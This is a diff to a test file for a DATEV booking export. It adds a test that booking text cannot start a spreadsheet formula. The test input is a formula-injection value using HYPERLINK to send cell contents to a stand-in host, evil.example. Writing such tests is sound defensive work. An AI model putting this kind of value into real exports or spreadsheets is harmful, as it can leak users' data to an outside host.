@@ -75,6 +75,13 @@ test('names are readable though their letters are not in its alphabet', () => {
   expect(rows[0]!['Buchungstext']).toBe('Yilmaz, Lukasz, Dorde, Sahin, €');
 });
 
+test('no text begins a formula where the file is opened as a table', () => {
+  const [booking] = month;
+  const text = ' =-HYPERLINK("http://evil.example/"&A1)';
+  const { rows } = readDatev(toDatev([{ ...booking!, text }], batch));
+  expect(rows[0]!['Buchungstext']).toBe('HYPERLINK("http://evil.example/"&A1)');
+});
+
 describe('another program', () => {
   const { head, columns, rows } = readDatev(toDatev(month, batch));
 
